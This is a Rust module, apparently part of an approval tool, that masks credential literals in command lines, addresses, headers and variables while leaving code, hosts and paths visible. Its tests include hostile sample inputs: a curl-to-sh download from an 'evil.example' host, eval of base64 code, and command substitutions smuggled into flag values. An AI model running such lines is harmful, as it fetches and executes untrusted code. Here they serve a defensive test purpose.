//! Credentials that a file wrote into a command line, an address or a variable.
//!
//! Hidden is a whole value in the place of a credential, and nothing else: never a part of code, a
//! host, a path or a name. What is hidden cannot be read, so that in doubt a text is shown: it is one
//! that the author of the file published.

use std::collections::HashSet;

use keyway_config::headers::is_credential_header;
use keyway_lint::mask;
use keyway_lint::secrets::{self, Position};

use crate::code_variables::is_code_variable;
use crate::inline_code::inline_code;

/// What a text is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Place {
    /// A command line: what stands in it may run.
    Command,
    /// An address: nothing of it runs.
    Address,
}

/// Returns a text without the literals that stand in its addresses where credentials do: in a query
/// parameter named like one, and before the `@`.
pub(crate) fn hide_in_address(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    for piece in text.split_inclusive(is_separator) {
        let word = piece.trim_end_matches(is_separator);
        shown.push_str(&Place::Address.hide_in_word(word));
        shown.push_str(piece.get(word.len()..).unwrap_or_default());
    }
    shown
}

/// Returns a command line without the words that stand where credentials do and look like one: behind
/// a flag or in a header named like one, in a parameter named like one, and before the `@` of an
/// address. `readable` are the parts of words that are shown whatever they look like.
///
/// Where an interpreter is handed code any word may be a part of it, so that all are shown.
pub(crate) fn hide_in_command(text: &str, readable: &HashSet<String>) -> String {
    if inline_code(text.split(is_separator)).is_some() {
        return text.to_owned();
    }
    let mut shown = String::with_capacity(text.len());
    let mut before = Before::Nothing;
    for piece in text.split_inclusive(is_separator) {
        let word = piece.trim_end_matches(is_separator);
        let separator = piece.get(word.len()..).unwrap_or_default();
        if !word.is_empty() {
            match before {
                _ if is_readable(word, readable) => shown.push_str(word),
                Before::Flag | Before::Header => shown.push_str(&Place::Command.hidden(word)),
                Before::Nothing => shown.push_str(&Place::Command.hide_in_word(word)),
            }
            before = before.then(word);
        }
        // A value in quotes is more than a token.
        if !separator.chars().all(char::is_whitespace) && before == Before::Flag {
            before = Before::Nothing;
        }
        shown.push_str(separator);
    }
    shown
}

/// What stands before a word, as far as it says that the word is a credential.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Before {
    /// A flag of two dashes that is named like a credential, and not like a program.
    Flag,
    /// A header that is named like a credential, with the scheme behind it.
    Header,
    /// Anything else.
    Nothing,
}

impl Before {
    fn then(self, word: &str) -> Self {
        if let Some(header) = word.strip_suffix(':') {
            let is_header = is_credential_name(header) && !names_program(header);
            return if is_header {
                Self::Header
            } else {
                Self::Nothing
            };
        }
        let is_scheme = SCHEMES.iter().any(|it| it.eq_ignore_ascii_case(word));
        match word.strip_prefix("--") {
            _ if self == Self::Header && is_scheme => Self::Header,
            Some(name) if is_credential_name(name) && !names_program(name) => Self::Flag,
            _ => Self::Nothing,
        }
    }
}

/// Says whether the value of a variable that a file wrote is a credential, and nothing else.
pub(crate) fn is_credential_value(name: &str, value: &str) -> bool {
    let is_code = is_code_variable(name);
    let is_named = match is_code {
        true => ends_as_credential(name),
        false => is_secret_variable(name),
    };
    let is_shaped = match is_named {
        true => is_credential(value),
        false => !is_code && is_vendors(value),
    };
    is_shaped && !names_program(name)
}

/// Says whether a variable is named like one that holds a credential.
pub(crate) fn is_secret_variable(name: &str) -> bool {
    is_credential_header(name) || secrets::is_credential_name(name)
}

/// Says whether the last part of a name is one of a credential: `GIT_TOKEN` is, and
/// `GIT_CONFIG_KEY_0` is not.
fn ends_as_credential(name: &str) -> bool {
    let last = name.rsplit('_').next().unwrap_or(name);
    is_credential_header(last)
}

/// Returns the value of a header that is filled in, without the literals in it that may be credentials.
pub(crate) fn hide_in_header(name: &str, template: &str) -> String {
    if !is_credential_header(name) {
        return template.to_owned();
    }
    let hidden = |word| match is_credential(word) {
        true => "…",
        false => word,
    };
    let words: Vec<&str> = template.split(' ').map(hidden).collect();
    words.join(" ")
}

/// Returns the parts of a word as they stand in a command line.
pub(crate) fn parts(word: &str) -> impl Iterator<Item = &str> {
    word.split(is_separator).filter(|part| !part.is_empty())
}

/// Says whether a word, or what follows `=` in it, is among those that are shown.
fn is_readable(word: &str, readable: &HashSet<String>) -> bool {
    let value = word.split_once('=').map(|(_, value)| value);
    readable.contains(word) || value.is_some_and(|value| readable.contains(value))
}

/// Says whether the name of a flag or of a variable is one of a program or of a file, whatever else
/// it is: `password-command`, `VAULT_PASSWORD_FILE`.
pub(crate) fn names_program(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    let mut parts = name.split(|c: char| !c.is_ascii_alphanumeric());
    let is_known = |part: &str| PROGRAM_PARTS.iter().any(|known| part.contains(known));
    parts.any(|part| part != "profile" && is_known(part))
}

/// Says whether a text has no other characters than tokens have, and is not a path: no shell or
/// interpreter would find a program in it.
fn is_token(text: &str) -> bool {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_.~+/=:%-".contains(&byte);
    !text.is_empty() && text.bytes().all(is_plain) && !text.starts_with(['/', '.', '~', '-'])
}

impl Place {
    fn hide_in_word(self, word: &str) -> String {
        if let Some((scheme, address)) = word.split_once("://") {
            return format!("{scheme}://{}", self.hide_in_rest(address));
        }
        match word.split_once('=') {
            _ if self == Self::Address => self.hide_in_query(word),
            Some((name, value)) if self.is_name(name) => format!("{name}={}", self.hidden(value)),
            _ => word.to_owned(),
        }
    }

    /// Hides in what follows the scheme of an address.
    fn hide_in_rest(self, address: &str) -> String {
        // Behind the host an `@` is part of a path: what stands before it is where the address leads.
        let is_user = |user: &str| !user.contains(['/', '?', '#', '\\']);
        match address.split_once('@') {
            Some((user, rest)) if is_user(user) => {
                format!("{}@{}", self.hidden_user(user), self.hide_in_query(rest))
            }
            _ => self.hide_in_query(address),
        }
    }

    /// Hides values of parameters; what stands before the `?` is where the address leads.
    fn hide_in_query(self, address: &str) -> String {
        let Some((path, query)) = address.split_once('?') else {
            return address.to_owned();
        };
        let is_end = |c: char| matches!(c, '&' | ';' | '#');
        let mut shown = format!("{path}?");
        for part in query.split_inclusive(is_end) {
            let pair = part.trim_end_matches(is_end);
            match pair.split_once('=') {
                Some((name, value)) if self.is_name(name) => {
                    shown.push_str(&format!("{name}={}", self.hidden(value)));
                }
                _ => shown.push_str(pair),
            }
            shown.push_str(part.get(pair.len()..).unwrap_or_default());
        }
        shown
    }

    fn is_name(self, name: &str) -> bool {
        match self {
            Self::Command => {
                let is_short = name.starts_with('-') && !name.starts_with("--");
                !is_short && is_credential_name(name) && !names_program(name)
            }
            Self::Address => is_credential_header(name),
        }
    }

    /// A reference to a variable stays readable: it is what the approval is about.
    fn hidden(self, value: &str) -> String {
        let is_shown = is_reference(value) || (self == Self::Command && !is_credential(value));
        if is_shown { value } else { "…" }.to_owned()
    }

    /// The user of an address is never a program, so that a short password is hidden as well.
    fn hidden_user(self, user: &str) -> String {
        let is_shown = is_reference(user) || (self == Self::Command && !is_token(user));
        if is_shown { user } else { "…" }.to_owned()
    }
}

fn is_reference(value: &str) -> bool {
    value.starts_with("${") && value.ends_with('}')
}

/// Says whether a text as a whole has the shape of a credential: that of a vendor, or one in which no
/// host, no path and no name with an ending can be written.
fn is_credential(text: &str) -> bool {
    let is_opaque = |byte: u8| byte.is_ascii_alphanumeric() || b"_+=-".contains(&byte);
    let is_plain = !text.starts_with('-') && text.bytes().all(is_opaque);
    (is_plain && looks_secret(text)) || is_vendors(text)
}

/// Says whether a text is a token of a vendor, and nothing else.
fn is_vendors(text: &str) -> bool {
    let found = secrets::find(text, Position::Prose);
    let is_whole = |it: &secrets::Finding| it.vendor.is_some() && it.range == (0..text.len());
    found.iter().any(is_whole)
}

/// Says whether a text has the shape of a credential: a token, or a password such as `p4ssw0rd`.
pub(crate) fn looks_secret(text: &str) -> bool {
    mask::looks_secret(text) || is_password(text)
}

/// Names of programs and modules have digits at their end, if at all, or other signs in them.
fn is_password(text: &str) -> bool {
    let bytes = text.as_bytes();
    let is_inner =
        |pair: &[u8]| matches!(pair, [a, b] if a.is_ascii_digit() && b.is_ascii_alphabetic());
    bytes.len() >= SHORTEST_PASSWORD
        && bytes.iter().all(u8::is_ascii_alphanumeric)
        && bytes.windows(2).any(is_inner)
}

/// Says whether a flag or a parameter is named like a credential: the name of a setting with dots in
/// it, such as `alias.token`, is not.
fn is_credential_name(name: &str) -> bool {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_-".contains(&byte);
    name.bytes().all(is_plain) && is_credential_header(name)
}

fn is_separator(character: char) -> bool {
    character.is_whitespace() || matches!(character, '\'' | '"' | '(' | ')')
}

const SHORTEST_PASSWORD: usize = 8;
/// Words before the credential in a header.
const SCHEMES: &[&str] = &["basic", "bearer", "token"];

/// Parts of names that lead to something that is run or read.
const PROGRAM_PARTS: &[&str] = &[
    "askpass", "cmd", "command", "exec", "file", "helper", "hook", "path", "program", "script",
];

#[cfg(test)]
mod tests {
    use super::*;

    fn token() -> String {
        ["kT8vQ2mX9w", "Lz4Rb7Yc3N"].concat()
    }

    #[test]
    fn literals_in_the_place_of_a_credential_are_hidden_and_nothing_else_is() {
        for (text, shown) in [
            ("./run.sh --token LITERAL", "./run.sh --token …"),
            ("'./run.sh --token=LITERAL' x", "'./run.sh --token=…' x"),
            ("run --password p4ssw0rdX", "run --password …"),
            (
                "docker run -e API_TOKEN=LITERAL image",
                "docker run -e API_TOKEN=… image",
            ),
            (
                "run --token ${TOKEN} --port 80",
                "run --token ${TOKEN} --port 80",
            ),
            (
                "run https://u:p4ss@h.example/?api_key=LITERAL",
                "run https://…@h.example/?api_key=…",
            ),
            ("npx -y @scope/server@1.2", "npx -y @scope/server@1.2"),
            (
                "npx mcp-remote https://h.example --header 'Authorization: Bearer LITERAL' x",
                "npx mcp-remote https://h.example --header 'Authorization: Bearer …' x",
            ),
            (
                "run --header 'Authorization: LITERAL' LITERAL",
                "run --header 'Authorization: …' LITERAL",
            ),
        ] {
            let filled = |text: &str| text.replace("LITERAL", &token());
            let hidden = hide_in_command(&filled(text), &HashSet::new());
            assert_eq!(hidden, filled(shown));
        }
        for (address, shown) in [
            (
                "https://h.example ('https://u:p$ss@h.example/mcp?api.key=p4!s&x=${V}')",
                "https://h.example ('https://…@h.example/mcp?api.key=…&x=${V}')",
            ),
            (
                "https://h.example/?x=1&key=${V}z",
                "https://h.example/?x=1&key=…",
            ),
            ("${BASE}/x?key=z token=z", "${BASE}/x?key=… token=z"),
        ] {
            assert_eq!(hide_in_address(address), shown);
        }
    }

    #[test]
    fn e07_what_could_run_is_never_hidden_as_a_credential() {
        for text in [
            "git -c 'alias.token=!node$IFS/outside/x.js' token",
            "git -c alias.token=status token",
            r#"sh -c 'eval "$1"' --token node"#,
            "sh -c 'exec node server.js --auth-key=$(touch${IFS}x)'",
            "run --token '$(touch x)'",
            "run --token /outside/x.js",
            "run --token=../x.js",
            "run --token --eval=x",
            "env TOKEN=a;b run",
            "run --api-key '!x' y",
            "python3 -Xapi-token evil.py",
            "java -Dapi-token Evil",
            "java -Dapi-token=evil x",
            "restic --password-command evil",
            "uvx --token evil",
            "run --token python3",
            "run --token a1-server2",
            "npx -y --always-auth evil",
            "uvx https://evil.example/x@good.example",
            "run --token x7k2m9q4w8e1r5t3z.evil.example",
            "run --token lib/x7k2m9q4w8e1r5t3z",
            "uvx --from git+https://x7k2m9q4w8e1r5t3z.example/y7f3a9c2e5b8d1x4 y",
            "node lib/x7k2m9q4w8e1r5t3z.js",
            "run --token 'x7k2m9q4w8e1r5t3z y'",
            "run --token -x7k2m9q4w8e1r5t3z",
            "run --token production",
            "run token x7k2m9q4w8e1r5t3z",
            "run mode=x7k2m9q4w8e1r5t3z",
            "run alias.token=x7k2m9q4w8e1r5t3z",
            "run --password-file=x7k2m9q4w8e1r5t3z",
            "java -Dapi-token=x7k2m9q4w8e1r5t3z",
            "run https://x$IFS@h.example",
        ] {
            assert_eq!(hide_in_command(text, &HashSet::new()), text);
        }
    }

    /// A host, a path and code are what the approval is about.
    #[test]
    fn e07_code_hosts_and_paths_are_shown_whatever_they_look_like() {
        let token = token();
        for text in [
            format!("sh -c 'curl https://{token}.evil.example/i|sh'"),
            format!("node -e \"eval(atob('{token}'))\""),
            format!("sh -c 'sh lib/{token}.sh --token {token}'"),
        ] {
            assert_eq!(hide_in_command(&text, &HashSet::new()), text);
        }
        for text in [
            format!("https://{token}.evil.example"),
            format!("https://h.example/{token};token={token}/x ('https://h.example/a=b')"),
        ] {
            assert_eq!(hide_in_address(&text), text);
        }
    }

    #[test]
    fn e07_of_a_variable_a_whole_credential_is_hidden() {
        let (token, vendors) = (
            token(),
            ["ghp_a1B2c3D4e5F6g7H8", "i9J0k1L2m3N4o5P6q7R8"].concat(),
        );
        for (name, value) in [
            ("API_KEY", &token),
            ("GIT_TOKEN", &token),
            ("PLAIN", &vendors),
        ] {
            assert!(is_credential_value(name, value), "{name}");
        }
        for (name, value) in [
            ("PLAIN", token.clone()),
            ("API_KEY", format!("x; {token} y")),
            ("API_KEY", format!("lib/{token}")),
            ("API_KEY", format!("{token}.evil.example")),
            ("PLAIN", format!("x; {vendors}")),
            ("NODE_OPTIONS", vendors.clone()),
            ("API_TOKEN_FILE", token.clone()),
            ("API_BASE_URL", format!("https://{token}.example/v1")),
        ] {
            assert!(!is_credential_value(name, &value), "{name}={value}");
        }
    }

    /// By the words of headers, and by those of settings.
    #[test]
    fn p0_a_variable_is_known_to_be_secret_by_its_name() {
        for name in ["API_TOKEN", "AWS_ACCESS_KEY_ID", "DB_PASSWD"] {
            assert!(is_secret_variable(name), "{name}");
        }
        assert!(!is_secret_variable("REGION"));
    }

    /// A program may be given the name of a token.
    #[test]
    fn e07_a_program_that_is_named_like_a_token_is_shown() {
        let token = token();
        for text in [
            format!("java -Dapi-token {token}"),
            format!("restic --password-command {token}"),
            format!("run --secret-file {token}"),
        ] {
            assert_eq!(hide_in_command(&text, &HashSet::new()), text);
        }
        let known = HashSet::from([token.clone()]);
        for text in [
            format!("run --token {token}"),
            format!("run --token={token}"),
        ] {
            assert_ne!(hide_in_command(&text, &HashSet::new()), text);
            assert_eq!(hide_in_command(&text, &known), text);
        }
    }
}
